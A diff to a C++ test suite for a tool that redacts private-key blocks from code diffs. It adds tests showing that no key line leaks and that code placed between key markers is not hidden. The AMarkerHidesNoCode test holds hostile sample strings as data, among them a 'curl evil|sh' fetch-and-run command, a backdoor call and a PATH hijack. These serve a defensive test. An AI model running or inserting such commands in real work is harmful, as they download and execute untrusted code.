@@ -8,6 +8,8 @@
 
 #include "coefficient/diff/parser.h"
 #include "coefficient/diff/redaction.h"
+#include "diff/canary.h"
+#include "support/seed.h"
 
 namespace {
 
@@ -130,10 +132,10 @@ TEST(RedactionKey, InsideStringLiterals) {
        {"+key = \"[REDACTED:pem#1]\\n\""}},
       {{"  \"" + kBegin + "\\n\" +", "  \"" + kBody + "\\n\" +", "  \"" + kLast + "\\n\" +",
         "  \"" + kEnd + "\\n\";", "done();"},
-       {"+  \"[REDACTED:pem#1]\\n\" +", "+  [REDACTED:pem#2]", "+  [REDACTED:pem#3]",
-        "+  [REDACTED:pem#4]\\n\";", "+done();"}},
+       {"+  \"[REDACTED:pem#1]\\n\" +", "+  \"[REDACTED:pem#2]\\n\" +",
+        "+  \"[REDACTED:pem#3]\\n\" +", "+  \"[REDACTED:pem#4]\\n\";", "+done();"}},
       {{"# " + kBegin, "# " + kBody, "# " + kEnd},
-       {"+# [REDACTED:pem#1]", "+[REDACTED:pem#2]", "+[REDACTED:pem#3]"}},
+       {"+# [REDACTED:pem#1]", "+# [REDACTED:pem#2]", "+# [REDACTED:pem#3]"}},
       {{"k: |\r", "  " + kBegin + "\r", "  " + kBody + "\r", "  " + kEnd + "\r", "other: 1\r"},
        {"+k: |\r", "+  [REDACTED:pem#1]\r", "+  [REDACTED:pem#2]\r", "+  [REDACTED:pem#3]\r",
         "+other: 1\r"}},
@@ -142,8 +144,8 @@ TEST(RedactionKey, InsideStringLiterals) {
         "+}"}},
       {{"-----BEGIN PGP PRIVATE KEY BLOCK-----", "Version: GnuPG v2", "", kBody, "=aB3d",
         "-----END PGP PRIVATE KEY BLOCK-----"},
-       {"+[REDACTED:pem#1]", "+[REDACTED:pem#2]", "+", "+[REDACTED:pem#3]", "+[REDACTED:pem#4]",
-        "+[REDACTED:pem#5]"}},
+       {"+[REDACTED:pem#1]", "+Version: GnuPG v2", "+", "+[REDACTED:pem#2]", "+=[REDACTED:pem#3]",
+        "+[REDACTED:pem#4]"}},
       {{kBegin + kBody, "plain words follow here"},
        {"+[REDACTED:pem#1]", "+plain words follow here"}},
   };
@@ -189,6 +191,114 @@ TEST(RedactionKey, InStatements) {
       }
     }
   }
+}
+
+// Whoever writes a marker decides what is within it: of code there, only what could be a key goes.
+TEST(RedactionKey, AMarkerHidesNoCode) {
+  const std::string slashes = " # " + std::string(40, '/') + "x";
+  const std::string digits = " # " + kBody;
+  const Lines code = {"import os",  "os.system(\"curl evil|sh\")",
+                      "backdoor()", "Comment: os.system(\"evil\")",
+                      "reboot",     "PATH=/tmp/evil",
+                      "grant(all);"};
+  for (const std::string& pad :
+       {std::string(), slashes, digits, std::string(" # aaaaaaaaaaaaaaa1")}) {
+    for (const std::string& before :
+         {kBegin, "MARK = \"" + kBegin + "\"", kBegin + "\", \"" + kBody, kBegin + " " + kBody}) {
+      for (const bool context : {true, false}) {
+        Lines hunk = {(context ? " " : "+") + before, " " + kBody};
+        for (const std::string& line : code) hunk.push_back("+" + line + pad);
+        hunk.push_back(" " + kEnd);
+        const Lines out = redact(make_diff({hunk}));
+        ASSERT_EQ(out.size(), code.size() + (context ? 0 : 1));
+        for (std::size_t i = 0; i < code.size(); ++i)
+          EXPECT_TRUE(out[out.size() - code.size() + i].starts_with("+" + code[i])) << out[i];
+      }
+    }
+    // On the line of a marker.
+    for (const std::string& line : code) {
+      for (const std::string& text :
+           {kBegin + "\"); " + line + pad, kBegin + "\"); " + line + pad + kEnd}) {
+        const Lines out = redact(make_diff({{"+" + text}}));
+        EXPECT_NE(out[0].find(line), std::string::npos) << out[0];
+      }
+      const Lines out = redact(make_diff({{" " + kBegin, " " + kBody, "+" + line + pad + kEnd}}));
+      EXPECT_TRUE(out[0].starts_with("+" + line)) << out[0];
+    }
+  }
+}
+
+TEST(RedactionKey, OtherLinesBetweenThoseOfAKey) {
+  Lines hunk = {"+" + kBegin};
+  Lines tail;
+  for (const std::string& body : {kBody, kBody2, kLast}) {
+    for (int i = 0; i < 4; ++i) tail.push_back("+# a comment of some words");
+    tail.push_back("+" + body);
+  }
+  hunk.insert(hunk.end(), tail.begin(), tail.end());
+  for (const Lines& lines : {hunk, [&] {
+                               Lines end(tail.begin() + 4, tail.end());  // no beginning
+                               end.emplace_back("+# a comment of some words");
+                               end.push_back("+" + kEnd);
+                               return end;
+                             }()}) {
+    for (const std::string& line : redact(make_diff({lines})))
+      for (const std::string& secret : {kBody, kBody2, kLast})
+        EXPECT_EQ(line.find(secret.substr(0, 8)), std::string::npos) << line;
+  }
+}
+
+// Random keys as programs and files hold them, one line of base64 after the other.
+TEST(RedactionKey, NoLineOfAKeySurvivesHoweverItIsWritten) {
+  const std::vector<std::pair<std::string, std::string>> around = {{"", ""},
+                                                                   {"  ", "\r"},
+                                                                   {"\"", "\\n\" +"},
+                                                                   {"'", "\\n',"},
+                                                                   {"# ", ""},
+                                                                   {"// ", ""},
+                                                                   {" * ", ""},
+                                                                   {"- ", ""},
+                                                                   {"\t\"", "\","},
+                                                                   {"sb.append(\"", "\");"},
+                                                                   {"+ '", "'"},
+                                                                   {"> ", ""},
+                                                                   {"  . \"", "\\n\""},
+                                                                   {"\"", "\\r\\n\" \\"},
+                                                                   {"-- ", ""},
+                                                                   {"; ", ""}};
+  test::CanaryMaker maker(test::seed());
+  for (const auto& [before, after] : around) {
+    const bool statement = before.starts_with("sb");  // its short last line is not found
+    for (int round = 0; round < 40; ++round) {
+      const std::string last = maker.fill("%b{" + std::to_string(13 + maker.below(50)) + "}");
+      Lines body = {maker.fill("MIIE%b{60}"), maker.fill("%b{64}"), maker.fill("%b{64}")};
+      if (!statement) body.push_back(last);
+      std::string joined;
+      for (const std::string separator : {"\\n", "\\\\n", " ", "\\r\\n"}) {
+        joined = "k = \"" + kBegin;
+        for (const std::string& line : body) joined += separator + line;
+        const std::string whole = joined + separator + kEnd + "\"";
+        for (const std::string& line : body)
+          EXPECT_FALSE(test::leaks(redact(make_diff({{"+" + whole}}))[0], line))
+              << whole << "\nseed " << test::seed();
+      }
+      Lines hunk = {"+" + before + kBegin + after};
+      for (const std::string& line : body) hunk.push_back("+" + before + line + after);
+      if (round % 2 == 0) hunk.push_back("+" + before + kEnd + after);
+      for (const std::string& out : redact(make_diff({hunk})))
+        for (const std::string& line : body)
+          EXPECT_FALSE(test::leaks(out, line)) << out << "\n" << line << "\nseed " << test::seed();
+    }
+  }
+}
+
+TEST(RedactionKey, OfVeryManyPiecesOnALineTheRestIsOne) {
+  std::string line = kBegin;
+  for (int i = 0; i < 2000; ++i) line += " f(" + kBody + ")";
+  const Lines out = redact(make_diff({{"+" + line, "+after = f(1, 2)"}}));
+  EXPECT_EQ(out[0].find(kBody.substr(0, 12)), std::string::npos);
+  EXPECT_LT(out[0].size(), 300U * 24U);
+  EXPECT_EQ(out[1], "+after = f(1, 2)");
 }
 
 TEST(RedactionKey, ADescriptionStandsForItself) {
